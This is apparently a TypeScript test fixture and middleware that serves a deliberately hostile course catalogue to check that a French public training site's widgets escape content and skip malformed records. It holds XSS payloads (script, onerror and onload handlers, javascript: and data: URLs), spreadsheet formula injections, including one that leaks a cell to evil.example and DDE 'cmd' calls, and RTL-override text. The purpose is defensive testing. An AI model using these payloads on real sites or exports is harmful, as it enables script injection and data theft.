/**
 * The hostile corpus: a SeedData-shaped catalogue whose every text and URL is
 * an attack or an oddity (script and event-handler injections, `javascript:`
 * and `data:` URLs, very long words and URLs, right-to-left overrides, emoji
 * and combining marks, empty strings, nulls where text is expected, unknown
 * enum values, very long lists, spreadsheet formulas), plus records that fail
 * the contract and must be left out and counted by the widgets.
 *
 * Served by the test harness under the `data=hostile` modifier (see `hostileData`,
 * mounted in harness.ts): `/test/data=hostile/api/v1/...` answers every read from
 * this corpus instead of the seed. The catalogue is indexed by a second app
 * built on it (search, facets, sessions, CSV, submissions behave as usual);
 * its JSON answers then get the raw values back, since the reference server
 * normalises its seed and would otherwise never send what a compromised or
 * buggy upstream could: `javascript:` URLs, nulls, items without id or title.
 *
 * No Node import here: the browser tests import the payloads from this file.
 */
import type { MiddlewareHandler } from 'hono';
import type { CatalogueData } from '../../server/catalogue.js';

type SeedData = CatalogueData;

/** What a payload that ran would set (the browser test checks it stays false). */
export const PWNED = 'window.__pwned=true';

export const PAYLOADS = {
  img: `<img src=x onerror="${PWNED}">`,
  script: `<script>${PWNED}</script>`,
  svg: `<svg onload="${PWNED}"><circle r="1"/></svg>`,
  iframe: `<iframe src="javascript:${PWNED}"></iframe>`,
  attr: `" onmouseover="${PWNED}" x="`,
  template: '${window.__pwned=true}{{constructor.constructor("window.__pwned=true")()}}',
  jsUrl: `javascript:${PWNED}`,
  jsUrlObfuscated: ` \tJaVaScRiPt:${PWNED}`,
  jsUrlEncoded: `javascript&#58;${PWNED}`,
  vbUrl: 'vbscript:msgbox(1)',
  dataHtml: `data:text/html,<script>${PWNED}</script>`,
  dataSvg: `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${PWNED}"/>`,
  /** 300 letters without a break opportunity. */
  longWord: 'A'.repeat(300),
  longUrl: `https://formation.exemple.gouv.fr/${'chemin-tres-long/'.repeat(30)}?q=${'x'.repeat(300)}`,
  /** A valid host name of 253 characters: the external link shows it as its label. */
  longHost: `https://${'a'.repeat(63)}.${'b'.repeat(63)}.${'c'.repeat(63)}.${'d'.repeat(50)}.gouv.fr/inscription`,
  /** An unterminated right-to-left override: it would reverse whatever UI text follows it. */
  rtl: 'Cours \u202Etxet ud lanif\u202C puis \u202Esans fin',
  rtlOnly: '\u202E',
  /** Closes an isolate early, then overrides. */
  rtlEscape: 'Fin\u2069\u202C\u202E isolée',
  emoji: 'Numérique 👩🏽‍💻🇫🇷✨🧑‍🤝‍🧑 responsable 🏳️‍🌈',
  combining: 'Z̷̢͎̈́a̸̛̱l̵̰̈g̴͙̾ő̶̟ e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c',
  zeroWidth: 'In\u200Bvi\u200Csi\u200Dble\uFEFF',
  formula: '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez ici")',
  formulaPlus: '+33 1 23 45 67 89',
  formulaMinus: '-2+3+cmd|\' /C calc\'!A0',
  formulaAt: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  formulaTab: '\t=1+1',
  formulaCr: '\r=1+1',
  csvBreaker: 'Titre "entre guillemets"; avec point-virgule\r\net retour à la ligne\nfin',
} as const;

/** Ids the tests use. */
export const HOSTILE_IDS = {
  script: 'h-script',
  data: 'h-data',
  long: 'h-long',
  rtl: 'h-rtl',
  emoji: 'h-emoji',
  empty: 'h-empty',
  nulls: 'h-nulls',
  enums: 'h-enums',
  formula: 'h-formula',
  longHost: 'h-long-host',
  sessions: 'h-sessions',
  notice: 'h-notice',
  trainerNotice: 'candidature-formateur',
} as const;

const P = PAYLOADS;

/** Unshowable courses: no id, no title, wrong types. Each must be left out and counted. */
export const UNSHOWABLE_COURSES: unknown[] = [
  { title: 'Sans identifiant', summary: P.img },
  { id: 'h-no-title', summary: 'Sans titre' },
  { id: '', title: 'Identifiant vide' },
  { id: '   ', title: 'Identifiant blanc' },
  { id: 'h-null-title', title: null },
  { id: 'h-blank-title', title: ' \t\n ' },
  { id: 42, title: 'Identifiant numérique' },
  { id: 'h-object-title', title: { fr: 'Titre objet' } },
  null,
  'une chaîne au lieu d’un objet',
  [],
];

const UNSHOWABLE_TERMS: unknown[] = [{ id: 'h-term-no-label' }, { label: 'Sans identifiant' }, { id: 'h-term-null', label: null }, null, 7];

const UNSHOWABLE_ORGS: unknown[] = [{ name: 'Organisme sans identifiant' }, { id: 'h-org-no-name' }, { id: 'h-org-null', name: null }, null];

const day = 24 * 3600 * 1000;
const iso = (ms: number) => new Date(ms).toISOString();

const term = (id: string, label: string, description?: string) => (description === undefined ? { id, label } : { id, label, description });

/** 100 partners: names long, hostile or plain; logos hostile, relative (served) or absent. */
function partners(): Record<string, unknown>[] {
  const logos = [P.jsUrl, P.dataSvg, '/media/logos/campus.svg', undefined, P.jsUrlObfuscated, 'ftp://exemple.gouv.fr/logo.svg'];
  const names = [P.img, P.longWord, P.rtl, P.emoji, P.combining, P.formula, P.script, 'Partenaire'];
  return Array.from({ length: 100 }, (_, i) => ({
    id: `h-partner-${i}`,
    name: `${names[i % names.length]} ${i}`,
    kind: i % 3 ? 'h-org-kind-unknown' : 'partenaire-etranger',
    shortName: i % 2 ? P.svg : undefined,
    url: i % 2 ? P.jsUrl : P.dataHtml,
    logoUrl: logos[i % logos.length],
    country: P.rtlOnly,
  }));
}

/**
 * The hostile catalogue. Dates are relative to `now`, so its sessions stay open.
 * Relative logo and image paths are served from the seed's media.
 */
export function hostileSeed(now: number = Date.now()): SeedData {
  const base = {
    language: 'fr',
    isFree: true,
    managerApproval: false,
    privacyNoticeId: HOSTILE_IDS.notice,
    enrolment: { mode: 'request' },
  };
  const courses: Record<string, unknown>[] = [
    {
      ...base,
      id: HOSTILE_IDS.script,
      title: `${P.img} Formation ${P.script} ${P.template}`,
      kind: 'h-kind-script',
      summary: `${P.svg} ${P.iframe} ${P.attr}`,
      objectives: [P.img, P.script, P.svg, P.iframe, P.attr, P.template],
      content: `${P.script}\n${P.iframe}`,
      expertiseIds: ['h-exp-script', 'h-exp-rtl'],
      audienceIds: ['h-aud-script'],
      modes: ['h-mode-script'],
      duration: { minutes: 90, label: P.img },
      level: 'h-level-script',
      prerequisites: P.script,
      providerId: 'h-org-script',
      partnerIds: ['h-org-script', 'h-org-data', 'h-org-rtl'],
      imageUrl: P.jsUrl,
      enrolment: { mode: 'external', url: P.jsUrl },
      updatedAt: iso(now - 1 * day),
    },
    {
      ...base,
      id: HOSTILE_IDS.data,
      title: `Liens data: ${P.dataHtml}`,
      kind: 'parcours',
      summary: P.dataSvg,
      objectives: [P.dataHtml],
      expertiseIds: ['h-exp-script'],
      audienceIds: [],
      modes: ['presentiel'],
      providerId: 'h-org-data',
      partnerIds: ['h-org-data'],
      imageUrl: P.dataSvg,
      enrolment: { mode: 'external', url: P.dataHtml },
    },
    {
      ...base,
      id: HOSTILE_IDS.long,
      title: `${P.longWord} ${P.longUrl}`,
      kind: 'h-kind-long',
      summary: `${P.longWord}${P.longWord} ${P.longUrl}`,
      objectives: Array.from({ length: 200 }, (_, i) => (i % 10 === 0 ? `${P.longWord}${i}` : `Objectif n° ${i + 1} ${P.emoji}`)),
      content: `${P.longWord}\n${P.longUrl}`,
      expertiseIds: ['h-exp-long', ...Array.from({ length: 40 }, (_, i) => `h-exp-many-${i}`)],
      audienceIds: ['h-aud-long', 'tous-agents'],
      modes: ['h-mode-long', 'presentiel', 'h-mode-nolabel'],
      duration: { label: P.longWord },
      level: 'h-level-long',
      prerequisites: P.longUrl,
      providerId: 'h-org-long',
      partnerIds: Array.from({ length: 100 }, (_, i) => `h-partner-${i}`),
      imageUrl: '/media/courses/data.svg',
      enrolment: { mode: 'external', url: P.longUrl },
    },
    {
      ...base,
      id: HOSTILE_IDS.rtl,
      title: P.rtl,
      kind: 'h-kind-rtl',
      summary: `${P.rtl} ${P.rtlEscape}`,
      objectives: [P.rtl, P.rtlEscape, P.rtlOnly],
      expertiseIds: ['h-exp-rtl'],
      audienceIds: ['h-aud-rtl'],
      modes: ['h-mode-rtl'],
      duration: { label: P.rtl },
      level: 'h-level-rtl',
      providerId: 'h-org-rtl',
      partnerIds: ['h-org-rtl'],
      enrolment: { mode: 'request' },
    },
    {
      ...base,
      id: HOSTILE_IDS.emoji,
      title: `${P.emoji} ${P.combining}`,
      kind: 'h-kind-emoji',
      summary: `${P.combining} ${P.zeroWidth}`,
      objectives: [P.emoji, P.combining, P.zeroWidth],
      expertiseIds: ['h-exp-emoji'],
      audienceIds: ['h-aud-emoji'],
      modes: ['h-mode-emoji'],
      providerId: 'h-org-emoji',
      partnerIds: [],
    },
    {
      ...base,
      id: HOSTILE_IDS.empty,
      title: 'Formation aux champs vides',
      kind: '',
      summary: '',
      objectives: ['', ' ', ''],
      content: '',
      expertiseIds: [''],
      audienceIds: [''],
      modes: [''],
      duration: { label: '' },
      level: '',
      prerequisites: '',
      language: '',
      providerId: '',
      partnerIds: [''],
      privacyNoticeId: '',
      imageUrl: '',
      enrolment: { mode: '', url: '' },
    },
    {
      id: HOSTILE_IDS.nulls,
      title: 'Formation aux champs nuls',
      kind: null,
      summary: null,
      objectives: [null, 'Objectif lisible', 42, { text: 'objet' }],
      content: null,
      expertiseIds: null,
      audienceIds: [null],
      modes: null,
      duration: null,
      level: null,
      prerequisites: null,
      language: null,
      providerId: null,
      partnerIds: null,
      isFree: null,
      price: { amount: null, currency: null },
      enrolment: null,
      managerApproval: null,
      privacyNoticeId: null,
      imageUrl: null,
      nextSession: null,
      updatedAt: null,
    },
    {
      ...base,
      id: HOSTILE_IDS.enums,
      title: 'Valeurs inconnues de la bibliothèque',
      kind: 'h-kind-unknown',
      summary: 'Type, modalité, niveau, statut et mode d’inscription que la bibliothèque ne connaît pas.',
      objectives: [],
      expertiseIds: ['h-exp-unknown-no-label'],
      audienceIds: ['h-aud-unknown'],
      modes: ['h-mode-unknown', 'h-mode-nolabel'],
      level: 'h-level-unknown',
      providerId: 'h-org-absent',
      partnerIds: ['h-org-absent'],
      isFree: false,
      price: { amount: 1234.5, currency: 'XBT' },
      enrolment: { mode: 'h-enrolment-lottery', url: 'https://inscription.exemple.gouv.fr/tirage' },
    },
    {
      ...base,
      id: HOSTILE_IDS.formula,
      title: P.formula,
      kind: 'h-kind-formula',
      summary: P.formulaPlus,
      objectives: [P.formulaMinus, P.formulaAt],
      expertiseIds: ['h-exp-formula'],
      audienceIds: ['h-aud-formula'],
      modes: ['h-mode-formula'],
      duration: { label: P.formulaTab },
      level: 'decouverte',
      providerId: 'h-org-formula',
      partnerIds: ['h-org-formula-at'],
      enrolment: { mode: 'request' },
    },
    {
      ...base,
      id: 'h-formula-cr',
      // Titles are trimmed when read: the CR survives in the summary.
      title: P.formulaCr,
      summary: P.formulaCr,
      objectives: [P.csvBreaker],
      duration: { label: P.formulaAt },
      providerId: 'h-org-formula',
      partnerIds: [],
      enrolment: { mode: 'request' },
    },
    {
      ...base,
      id: 'h-csv-breaker',
      title: P.csvBreaker,
      summary: `-${P.csvBreaker}`,
      objectives: ['@a', '+b', '-c', '=d'],
      partnerIds: [],
      enrolment: { mode: 'external', url: 'https://inscription.exemple.gouv.fr/a;b"c' },
    },
    {
      ...base,
      id: HOSTILE_IDS.longHost,
      title: 'Inscription sur une plateforme au nom interminable',
      summary: P.longHost,
      objectives: [],
      partnerIds: [],
      enrolment: { mode: 'external', url: P.longHost },
    },
    {
      ...base,
      id: HOSTILE_IDS.sessions,
      title: `Sessions hostiles ${P.img} ${P.rtl}`,
      kind: 'h-kind-unknown',
      summary: `${P.longWord} ${P.script}`,
      objectives: [P.img, P.longWord, P.rtl],
      content: P.longUrl,
      expertiseIds: ['h-exp-script', 'h-exp-long'],
      audienceIds: ['h-aud-rtl'],
      modes: ['h-mode-unknown'],
      duration: { minutes: 420, label: P.emoji },
      level: 'h-level-unknown',
      providerId: 'h-org-script',
      partnerIds: ['h-org-script', 'h-org-long', 'h-org-rtl', 'h-partner-1', 'h-partner-2'],
      managerApproval: true,
      enrolment: { mode: 'request' },
    },
    // Enough ordinary-looking courses for a second page, each with one oddity.
    ...Array.from({ length: 18 }, (_, i) => ({
      ...base,
      id: `h-filler-${i}`,
      title: [P.img, P.longWord, P.rtl, P.emoji, P.formula, P.script][i % 6] + ` ${i}`,
      kind: ['parcours', 'h-kind-unknown', 'h-kind-script'][i % 3],
      summary: [P.svg, P.combining, P.longUrl][i % 3],
      objectives: [],
      expertiseIds: [`h-exp-many-${i}`],
      audienceIds: ['tous-agents'],
      modes: ['presentiel'],
      providerId: `h-partner-${i}`,
      partnerIds: [`h-partner-${i + 1}`],
      imageUrl: i % 2 ? P.jsUrlObfuscated : '/media/courses/cybersecurite.svg',
    })),
    ...(UNSHOWABLE_COURSES as Record<string, unknown>[]),
  ];

  const start = now + 40 * day;
  const slot = (offsetDays: number, hours = 3) => ({ start: iso(start + offsetDays * day), end: iso(start + offsetDays * day + hours * 3600e3) });
  const sessions: Record<string, unknown>[] = [
    {
      id: 'h-sess-script',
      courseId: HOSTILE_IDS.sessions,
      mode: 'h-mode-script',
      slots: [slot(0)],
      timezone: 'Europe/Paris',
      location: { name: P.img, address: `${P.longWord} ${P.script}`, city: P.rtl, country: P.rtlOnly },
      online: false,
      seatsLeft: 5,
      status: 'open',
    },
    {
      id: 'h-sess-unknown-status',
      courseId: HOSTILE_IDS.sessions,
      mode: 'h-mode-unknown',
      slots: [slot(7)],
      timezone: 'Europe/Paris',
      online: true,
      status: 'h-status-postponed',
    },
    {
      id: 'h-sess-nolabel-status',
      courseId: HOSTILE_IDS.sessions,
      mode: '',
      slots: [slot(14)],
      status: 'h-status-nolabel',
      location: { name: null, address: null, city: null },
    },
    {
      id: 'h-sess-bad-zone',
      courseId: HOSTILE_IDS.sessions,
      mode: 'presentiel',
      slots: [slot(21)],
      timezone: 'Mars/Olympus_Mons',
      location: { name: P.emoji, city: P.combining },
      seatsLeft: 0,
      status: 'open',
    },
    {
      id: 'h-sess-many-slots',
      courseId: HOSTILE_IDS.sessions,
      mode: 'hybride',
      slots: Array.from({ length: 40 }, (_, i) => slot(28 + i)),
      timezone: null,
      location: { name: P.longUrl, city: P.longWord },
      seatsLeft: 12,
      status: 'waitlist',
    },
    {
      id: `h-sess-${'x'.repeat(200)}`,
      courseId: HOSTILE_IDS.sessions,
      mode: null,
      slots: [slot(80)],
      online: null,
      capacity: -3,
      seatsLeft: 'beaucoup',
      registrationOpens: 'demain',
      registrationCloses: null,
      status: null,
    },
    { id: 'h-sess-rtl', courseId: HOSTILE_IDS.rtl, mode: 'h-mode-rtl', slots: [slot(3)], location: { name: P.rtl, city: P.rtl }, status: 'open' },
    { id: 'h-sess-formula', courseId: HOSTILE_IDS.formula, mode: 'presentiel', slots: [slot(4)], location: { name: P.formula, city: P.formulaAt }, status: 'open' },
    // Unshowable sessions of the course with sessions: left out and counted.
    { id: 'h-sess-no-slots', courseId: HOSTILE_IDS.sessions, slots: [] },
    { id: 'h-sess-bad-dates', courseId: HOSTILE_IDS.sessions, slots: [{ start: 'bientôt', end: 'plus tard' }] },
    { courseId: HOSTILE_IDS.sessions, slots: [slot(2)] },
    { id: 'h-sess-null-slots', courseId: HOSTILE_IDS.sessions, slots: null },
  ];

  const orgs: Record<string, unknown>[] = [
    { id: 'h-org-script', name: `${P.img} Organisme ${P.script}`, kind: 'h-org-kind-script', shortName: P.svg, url: P.jsUrl, logoUrl: P.jsUrl, country: 'FR' },
    { id: 'h-org-data', name: `Organisme data ${P.dataHtml}`, kind: 'administration', url: P.dataHtml, logoUrl: P.dataSvg },
    { id: 'h-org-rtl', name: `Organisme ${P.rtl}`, kind: 'h-org-kind-rtl', logoUrl: P.vbUrl },
    { id: 'h-org-long', name: P.longWord, kind: 'ecole', url: P.longUrl, logoUrl: '/media/logos/insp.svg' },
    { id: 'h-org-emoji', name: `${P.emoji} ${P.combining}`, kind: 'campus' },
    { id: 'h-org-formula', name: P.formulaMinus, kind: 'administration' },
    { id: 'h-org-formula-at', name: P.formulaAt, kind: 'administration' },
    { id: 'campus', name: 'Campus du numérique public', kind: 'campus', logoUrl: '/media/logos/campus.svg' },
    ...partners(),
    ...(UNSHOWABLE_ORGS as Record<string, unknown>[]),
  ];

  const labelled = (prefix: string) => [
    term(`${prefix}-script`, `${P.img} ${P.script}`, P.svg),
    term(`${prefix}-long`, P.longWord, P.longUrl),
    term(`${prefix}-rtl`, P.rtl, P.rtlEscape),
    term(`${prefix}-emoji`, `${P.emoji} ${P.combining}`),
    term(`${prefix}-formula`, P.formula),
    term(`${prefix}-unknown`, `Libellé du serveur pour ${prefix}-unknown`),
  ];

  const notice = (id: string) => ({
    id,
    version: `2026-${P.img}`,
    title: `${P.script} Notice ${P.rtl}`,
    controller: P.img,
    controllerContact: P.jsUrl,
    dpoContact: P.longWord,
    purpose: `${P.longUrl} ${P.emoji}`,
    legalBasis: P.rtl,
    recipients: Array.from({ length: 100 }, (_, i) => [P.img, P.rtl, P.longWord, P.combining][i % 4] + ` ${i}`),
    transfers: null,
    retention: '',
    rights: P.svg,
    complaint: P.dataHtml,
    updatedAt: 'jamais',
  });

  return {
    expertises: [
      ...labelled('h-exp'),
      { id: 'h-exp-child', label: `Sous-thème ${P.img}`, parentId: 'h-exp-script' },
      { id: 'h-exp-loop-a', label: 'Boucle A', parentId: 'h-exp-loop-b' },
      { id: 'h-exp-loop-b', label: 'Boucle B', parentId: 'h-exp-loop-a' },
      ...Array.from({ length: 40 }, (_, i) => term(`h-exp-many-${i}`, `${[P.emoji, P.rtl, P.longWord, P.img][i % 4]} ${i}`)),
      ...(UNSHOWABLE_TERMS as never[]),
    ],
    audiences: [...labelled('h-aud'), term('tous-agents', 'Tous les agents publics'), ...(UNSHOWABLE_TERMS as never[])],
    organisations: orgs as never[],
    courses: courses as never[],
    sessions: sessions as never[],
    privacyNotices: [notice(HOSTILE_IDS.notice), notice(HOSTILE_IDS.trainerNotice)] as never[],
    vocabularies: {
      kinds: [...labelled('h-kind'), term('parcours', 'Parcours'), ...UNSHOWABLE_TERMS],
      modes: [...labelled('h-mode'), term('presentiel', 'Présentiel'), term('hybride', 'Hybride'), ...UNSHOWABLE_TERMS],
      levels: [...labelled('h-level'), term('decouverte', 'Découverte')],
      sessionStatuses: [
        term('open', 'Inscriptions ouvertes'),
        term('full', 'Complet'),
        term('waitlist', "Liste d'attente"),
        term('h-status-postponed', `Reportée (libellé du serveur) ${P.rtl}`),
        ...UNSHOWABLE_TERMS,
      ],
      organisationKinds: [...labelled('h-org-kind')],
      trainerSkills: [
        ...labelled('h-skill'),
        ...Array.from({ length: 100 }, (_, i) => term(`h-skill-many-${i}`, `${[P.emoji, P.rtl, P.longWord, P.img, P.formula][i % 5]} ${i}`)),
        ...UNSHOWABLE_TERMS,
      ],
      trainerStatuses: [...labelled('h-status'), ...UNSHOWABLE_TERMS],
      trainerIntents: [term('list', `Proposer une formation ${P.img}`), ...labelled('h-intent'), ...UNSHOWABLE_TERMS],
      // A list the library does not know: kept and ignored.
      h_unknown_list: [term('x', P.script)],
    } as never,
    trainerPrivacyNoticeId: HOSTILE_IDS.trainerNotice,
  };
}

// ------------------------------------------------------------- serving

/** Whether a `/test/<modifiers>/...` path asks for the hostile corpus. */
export function wantsHostileData(modifiers: string | undefined): boolean {
  return (modifiers ?? '').split(',').some((part) => part.trim() === 'data=hostile');
}

type Raw = Record<string, unknown>;
const isRecord = (v: unknown): v is Raw => Boolean(v) && typeof v === 'object' && !Array.isArray(v);
const hasId = (v: unknown): v is Raw & { id: string } => isRecord(v) && typeof v.id === 'string';

/** The raw corpus, by kind and id, and what the normalising server would drop. */
interface RawIndex {
  courses: Map<string, Raw>;
  sessions: Map<string, Raw>;
  sessionList: readonly unknown[];
  organisations: Map<string, Raw>;
  expertises: Map<string, Raw>;
  audiences: Map<string, Raw>;
  notices: Map<string, Raw>;
  unshowable: { courses: unknown[]; organisations: unknown[]; expertises: unknown[]; audiences: unknown[] };
  vocabularies: unknown;
}

function indexOf(seed: SeedData): RawIndex {
  const byId = (list: readonly unknown[]) => {
    const map = new Map<string, Raw>();
    for (const item of list) if (hasId(item) && item.id.trim() && !map.has(item.id)) map.set(item.id, item);
    return map;
  };
  // What the server's schemas cannot keep: no string id, or no usable title / name / label.
  const named = (key: string) => (v: unknown) => hasId(v) && v.id.trim() !== '' && typeof v[key] === 'string' && (v[key] as string).trim() !== '';
  const unshowable = (list: readonly unknown[], key: string) => list.filter((v) => !named(key)(v));
  return {
    courses: byId(seed.courses),
    sessions: byId(seed.sessions),
    sessionList: seed.sessions,
    organisations: byId(seed.organisations),
    expertises: byId(seed.expertises),
    audiences: byId(seed.audiences),
    notices: byId(seed.privacyNotices),
    unshowable: {
      courses: unshowable(seed.courses, 'title'),
      organisations: unshowable(seed.organisations, 'name'),
      expertises: unshowable(seed.expertises, 'label'),
      audiences: unshowable(seed.audiences, 'label'),
    },
    vocabularies: seed.vocabularies,
  };
}

/** The raw record over the served one; a relative media path keeps the served (absolute) URL. */
function rawOver(served: unknown, raw: Raw | undefined): unknown {
  if (!raw || !isRecord(served)) return served;
  const out: Raw = { ...served, ...raw };
  for (const key of ['imageUrl', 'logoUrl']) {
    if (typeof raw[key] === 'string' && (raw[key] as string).startsWith('/') && key in served) out[key] = served[key];
  }
  // Computed by the server from the sessions: keep it unless the raw record says otherwise.
  if (!('nextSession' in raw) && 'nextSession' in served) out.nextSession = served.nextSession;
  return out;
}

/** Puts the raw values back into a JSON answer of the normalising server. */
function restoreRaw(path: string[], query: URLSearchParams, body: unknown, raw: RawIndex): unknown {
  if (!isRecord(body)) return body;
  const items = Array.isArray(body.items) ? body.items : undefined;
  const over = (map: Map<string, Raw>, extra: unknown[] = []) => {
    const list = (items ?? []).map((item) => rawOver(item, hasId(item) ? map.get(item.id) : undefined));
    // Unshowable records slipped between the good ones, as a broken upstream would.
    extra.forEach((bad, i) => list.splice(Math.min(list.length, 1 + i * 2), 0, bad));
    return { ...body, items: list };
  };
  const [first, id, sub] = path;
  if (first === 'vocabularies' && path.length === 1) return raw.vocabularies;
  if (first === 'organisations') return over(raw.organisations, raw.unshowable.organisations);
  if (first === 'expertises') return over(raw.expertises, raw.unshowable.expertises);
  if (first === 'audiences') return over(raw.audiences, raw.unshowable.audiences);
  if (first === 'privacy-notices' && id) return rawOver(body, raw.notices.get(decodeURIComponent(id)));
  if (first === 'courses' && !id) {
    const page = Number(query.get('page') ?? '1');
    return over(raw.courses, page <= 1 ? raw.unshowable.courses : []);
  }
  if (first === 'courses' && id && !sub) return rawOver(body, raw.courses.get(decodeURIComponent(id)));
  if (first === 'courses' && id && sub === 'sessions') {
    const courseId = decodeURIComponent(id);
    const served = new Set((items ?? []).map((i) => (hasId(i) ? i.id : undefined)));
    // The course's sessions the server could not keep (no id, no valid slot…).
    const bad = raw.sessionList.filter((s) => isRecord(s) && s.courseId === courseId && !(hasId(s) && served.has(s.id)));
    return over(raw.sessions, bad);
  }
  return body;
}

/**
 * The `data=hostile` modifier: a middleware for `/test/:modifiers/api/v1/*`
 * that answers from an app built on the hostile corpus (made once, on first
 * use, by `makeApp`), with the raw values put back into its JSON answers.
 * Other modifiers (faults) still apply around it.
 */
type Handler = { fetch: (request: Request) => Response | Promise<Response> };

export function hostileData(makeApp: (data: SeedData) => Handler | Promise<Handler>): MiddlewareHandler {
  let app: Handler | undefined;
  let raw: RawIndex | undefined;
  return async (c, next) => {
    if (!wantsHostileData(c.req.param('modifiers'))) return next();
    if (!app || !raw) {
      const seed = hostileSeed();
      raw = indexOf(seed);
      // The server warns of every record it drops: the corpus's unshowable ones are dropped on purpose.
      const warn = console.warn;
      console.warn = () => undefined;
      try {
        app = await makeApp(seed);
      } finally {
        console.warn = warn;
      }
    }
    const url = new URL(c.req.url);
    const rest = url.pathname.replace(/^\/test\/[^/]+/, '');
    const method = c.req.method;
    const request = new Request(new URL(rest + url.search, url.origin), {
      method,
      headers: c.req.raw.headers,
      body: method === 'GET' || method === 'HEAD' ? undefined : await c.req.raw.arrayBuffer(),
      signal: c.req.raw.signal,
    });
    const response = await app.fetch(request);
    const type = response.headers.get('Content-Type') ?? '';
    if (method !== 'GET' || !response.ok || !type.startsWith('application/json')) return response;
    const path = rest.split('/').slice(3).filter(Boolean);
    const body = restoreRaw(path, url.searchParams, await response.json(), raw);
    const headers = new Headers(response.headers);
    headers.delete('ETag');
    headers.delete('Content-Length');
    headers.set('Cache-Control', 'no-store');
    return new Response(JSON.stringify(body), { status: response.status, headers });
  };
}
